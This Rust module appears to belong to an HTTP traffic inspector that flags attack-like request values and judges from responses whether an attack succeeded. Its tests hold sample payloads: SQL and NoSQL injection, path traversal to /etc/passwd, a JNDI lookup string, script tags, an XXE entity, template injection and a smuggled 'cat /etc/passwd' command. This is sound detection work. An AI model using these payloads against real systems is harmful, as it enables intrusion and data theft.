//! Values of a request that look like attacks, and what the answer says of their success. Every
//! request is looked at: nearly all values are let pass at a glance.

mod answer;
mod body;
mod framing;

use tapline_model::{
    Attack, AttackNote, AttackNotes, AttackPlace, Body, HeaderKind, Headers, Key, Observation,
    RequestHead, Transaction,
};
use tapline_payload::Inspector;

use crate::format::form;
use crate::memo::Memo;
use crate::token::TokenFacts;

/// Header fields of one request that are looked at.
const FIELDS_MAX: usize = 64;
/// Pairs of one query, cookie field or form that are looked at.
const PAIRS_MAX: usize = 1_024;
/// Bytes of a header's value that is remembered for being harmless.
const REMEMBERED_BYTES_MAX: usize = 512;
/// Bytes of a value that is looked for in the answer.
const KEPT_BYTES_MAX: usize = 256;
/// Shorter values come back by chance.
const KEPT_BYTES_MIN: usize = 6;

/// Looks at the values of one request after another. What it remembers saves time and changes no
/// output.
pub(crate) struct Attacks {
    look: Look,
    /// The content of the request has been looked at.
    is_body_read: bool,
    /// Values of header fields in which nothing was found.
    harmless: Memo<Harmless>,
    scratch: Vec<u8>,
}

/// Where the value of a header field was harmless.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
enum Harmless {
    #[default]
    Anywhere,
    /// In a list of what a client takes: `*/*` would be the end of a comment elsewhere.
    InLists,
}

/// The look at one value, and what came of those before.
struct Look {
    key: Key,
    inspector: Inspector,
    notes: AttackNotes,
    /// A script that was sent: it may come back.
    script: Vec<u8>,
}

impl std::fmt::Debug for Attacks {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Attacks({} notes)", self.look.notes.notes.len())
    }
}

impl Attacks {
    /// Hashes with `key`.
    pub(crate) fn new(key: Key) -> Self {
        let notes = AttackNotes::default();
        Self {
            look: Look { key, inspector: Inspector::new(), notes, script: Vec::new() },
            is_body_read: false,
            harmless: Memo::default(),
            scratch: Vec::new(),
        }
    }

    /// Looks at a request whose path is of names alone or not, and at its content as far as it is not
    /// coded; whether the answer is worth reading for what it says of an attack.
    pub(crate) fn read(
        &mut self,
        transaction: &Transaction<'_>,
        request: &RequestHead<'_>,
        is_names: bool,
    ) -> bool {
        self.look.notes.clear();
        self.look.script.clear();
        if !is_names {
            // Who asks for a file that is not there only probes; who walks up to it does more.
            let walks = request.path.iter().any(|byte| b"%\\".contains(byte))
                || memchr::memmem::find(request.path, b"..").is_some();
            let is_possible = |attack| walks || attack != Attack::Path;
            self.look.value_if(b"", request.path, AttackPlace::Path, is_possible);
            for segment in request.path.split(|&byte| byte == b'/').filter(|it| it.len() > 2) {
                self.look.value_if(b"", segment, AttackPlace::Path, is_possible);
            }
        }
        if let Some(query) = request.query {
            self.look.pairs(query, AttackPlace::Query, &mut self.scratch);
        }
        self.headers(request.headers);
        if framing::is_ambiguous(request.headers) {
            self.look.note(Attack::Smuggling, 8);
        }
        self.is_body_read = false;
        self.body(&transaction.request_body);
        !self.look.notes.notes.is_empty()
    }

    /// Reads what was decoded since and what holds of the credentials, and hands over what was found.
    pub(crate) fn finish(
        &mut self,
        transaction: &Transaction<'_>,
        token: TokenFacts,
        seen: &mut Observation,
    ) {
        if !self.is_body_read {
            self.body(&transaction.request_body);
        }
        if token.has_odd_key() || token.is_unsigned() || token.names_its_key() {
            self.look.note(Attack::Token, if token.has_odd_key() { 9 } else { 7 });
        }
        if !self.look.notes.notes.is_empty() {
            self.look.notes.proofs = answer::proofs(transaction, &self.look.script);
        }
        std::mem::swap(&mut self.look.notes, &mut seen.attacks);
    }

    fn body(&mut self, body: &Body<'_>) {
        if !body.sample.bytes.is_empty() {
            self.is_body_read = true;
            body::read(body, &mut self.look, &mut self.scratch);
        }
    }

    fn headers(&mut self, headers: Headers<'_>) {
        for field in headers.fields().take(FIELDS_MAX) {
            match field.kind {
                HeaderKind::Host
                | HeaderKind::ContentLength
                | HeaderKind::Connection
                | HeaderKind::Authorization
                | HeaderKind::TransferEncoding
                | HeaderKind::ApiKey
                | HeaderKind::Date => {}
                HeaderKind::Cookie => self.cookies(field.value),
                _ => self.header(field.name, field.value),
            }
        }
    }

    fn cookies(&mut self, value: &[u8]) {
        for pair in value.split(|&byte| byte == b';').take(PAIRS_MAX) {
            let at = memchr::memchr(b'=', pair).map_or(0, |at| at + 1);
            let (name, value) = pair.split_at_checked(at).unwrap_or_default();
            self.look.value(name.trim_ascii(), value, AttackPlace::Cookie);
        }
    }

    /// Clients send the same fields again and again.
    fn header(&mut self, name: &[u8], value: &[u8]) {
        let harmless = self.harmless.find(value);
        if harmless == Some(&Harmless::Anywhere) {
            return;
        }
        let is_list = is_negotiation(name);
        if is_list && harmless.is_some() {
            return;
        }
        // Lists of what a client takes have signs of their own; what is logged may be looked up.
        let has_signs = std::cell::Cell::new(false);
        let is_possible = |attack| {
            has_signs.set(true);
            !is_list || attack == Attack::Lookup
        };
        let is_attack = self.look.value_if(name, value, AttackPlace::Header, is_possible);
        if !is_attack && value.len() <= REMEMBERED_BYTES_MAX {
            let where_it_is = if has_signs.get() { Harmless::InLists } else { Harmless::Anywhere };
            self.harmless.remember(value, where_it_is);
        }
    }
}

impl Look {
    /// Notes what is told by no single value.
    fn note(&mut self, attack: Attack, score: u8) {
        self.notes.add(AttackNote { attack, place: AttackPlace::Header, name_hash: 0, score });
    }

    /// Looks at one value; whether it is an attack.
    fn value(&mut self, name: &[u8], value: &[u8], place: AttackPlace) -> bool {
        self.value_if(name, value, place, |_| true)
    }

    /// The same, for those attacks that a value of this kind can be.
    fn value_if(
        &mut self,
        name: &[u8],
        value: &[u8],
        place: AttackPlace,
        is_possible: impl Fn(Attack) -> bool,
    ) -> bool {
        let Self { key, inspector, notes, script } = self;
        let mut is_attack = false;
        inspector.look(value, place, &mut |attack, score| {
            if !is_possible(attack) {
                return;
            }
            is_attack = true;
            if attack == Attack::Script && (KEPT_BYTES_MIN..=KEPT_BYTES_MAX).contains(&value.len())
            {
                script.clear();
                script.extend_from_slice(value);
            }
            let name_hash = if name.is_empty() { 0 } else { key.text_hash(name) };
            notes.add(AttackNote { attack, place, name_hash, score });
        });
        is_attack
    }

    /// Looks at the values of a query or form; at a whole pair where its name is none.
    fn pairs(&mut self, text: &[u8], place: AttackPlace, scratch: &mut Vec<u8>) {
        for (name, value) in form::pairs(text).take(PAIRS_MAX) {
            if let Some(value) = value {
                form::decode(value, scratch);
                self.value(name, scratch, place);
            }
            if !is_plain_name(name) {
                form::decode(name, scratch);
                if value.is_some() && scratch.iter().any(|byte| b" '\"<(;".contains(byte)) {
                    scratch.push(b'=');
                    scratch.extend(percent_encoding::percent_decode(value.unwrap_or_default()));
                }
                self.value(b"", scratch, place);
            }
        }
    }
}

/// Whether the name of a parameter is one.
fn is_plain_name(name: &[u8]) -> bool {
    name.iter().all(|byte| byte.is_ascii_alphanumeric() || b"-_.[]:".contains(byte))
        && !name.starts_with(b"__")
        && memchr::memmem::find(name, b"lassLoader").is_none()
}

/// Fields that say what a client takes, and those that browsers make up.
fn is_negotiation(name: &[u8]) -> bool {
    let begins =
        |word: &[u8]| name.get(..word.len()).is_some_and(|it| it.eq_ignore_ascii_case(word));
    begins(b"accept") || begins(b"sec-") || begins(b"if-") || begins(b"cache-control")
}

#[cfg(test)]
mod tests {
    use tapline_model::Proof;

    use crate::testing::Exchange;

    fn found(exchange: &Exchange) -> Vec<(&'static str, &'static str)> {
        let seen = exchange.observed();
        seen.attacks.notes.iter().map(|it| (it.attack.label(), it.place.label())).collect()
    }

    #[test]
    fn attacks_are_found_wherever_they_stand() {
        let get = |target: &str| Exchange::new("GET", target, 200);
        let post =
            |media: &'static str, text: &str| Exchange::new("POST", "/a", 200).sent(media, text);
        for (exchange, expected) in [
            (get("/a?id=1%27%20or%20%271%27=%271"), ("sql", "query")),
            (get("/a?1%20or%201=1"), ("sql", "query")),
            (get("/a?user[$ne]=x"), ("nosql", "query")),
            (get("/static/..%2f..%2f..%2fetc/passwd"), ("path", "path")),
            (get("/a").field("User-Agent", "${jndi:ldap://x/a}"), ("lookup", "header")),
            (get("/a").field("Accept-Language", "${jndi:ldap://x/b}"), ("lookup", "header")),
            (get("/a").field("Cookie", "a=b; c=<script>alert(1)</script>"), ("script", "cookie")),
            (post("application/json", r#"{"a":{"$gt":""}}"#), ("nosql", "body")),
            (post("application/json", r#"{"a":"\u003cscript>alert(1)"}"#), ("script", "body")),
            (post("application/x-www-form-urlencoded", "a=%3Bcat+/etc/passwd"), ("path", "body")),
            (
                post("application/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"c\">]><a>&b;</a>"),
                ("xxe", "body"),
            ),
            (post("application/xml", "<a>1' or '1'='1</a>"), ("sql", "body")),
            (
                post(
                    "application/json",
                    r#"{"query":"query { user(id: \"1' or '1'='1\") { name } }"}"#,
                ),
                ("sql", "body"),
            ),
            (
                post(
                    "multipart/form-data",
                    "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{{7*7}}\r\n--b--\r\n",
                ),
                ("template", "body"),
            ),
        ] {
            assert!(found(&exchange).contains(&expected), "{:?} {expected:?}", found(&exchange));
        }
    }

    #[test]
    fn what_every_client_sends_is_no_attack() {
        let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
        let exchange =
            Exchange::new("POST", "/shop/items/42?sort=-price&q=O%27Brien+%26+Sons", 200)
                .field("User-Agent", agent)
                .field("Referer", "https://example.org/?a=b&c=d#e")
                .field("Cookie", "sid=Zx81kd92LqAAbb77CCdd; theme=dark")
                .sent(
                    "application/json",
                    r#"{"text":"Don't select; it's (5 > 3) & \"fine\"","n":[1,2]}"#,
                );
        assert_eq!(found(&exchange), []);
    }

    #[test]
    fn answers_tell_of_success() {
        let proven = |target: &str, status, media, text: &str| {
            let seen = Exchange::new("GET", target, status).answer(media, text).observed();
            let proofs = seen.attacks.proofs;
            let others = Proof::ALL.iter().copied().filter(|&it| it != Proof::Granted);
            others.filter(|&it| proofs.contains(it)).collect::<Vec<_>>()
        };
        let sql = "/a?id=1%27%20or%20%271%27=%271";
        assert_eq!(
            proven(sql, 500, "text/plain", "SQLSTATE[42000]"),
            [Proof::ServerError, Proof::DatabaseError]
        );
        assert_eq!(proven(sql, 200, "application/json", "{}"), []);
        let file = "/a?f=../../../etc/passwd";
        assert_eq!(proven(file, 200, "text/plain", "root:x:0:0:root:/root"), [Proof::FileShown]);
        let script = "/a?q=%3Cscript%3Ealert(1)%3C/script%3E";
        assert_eq!(
            proven(script, 200, "text/html", "<p><script>alert(1)</script>"),
            [Proof::Reflected]
        );
        assert_eq!(proven(script, 200, "text/html", "<p>&lt;script&gt;"), []);
        assert_eq!(proven("/a", 500, "text/plain", "SQLSTATE[42000]"), []);
    }
}
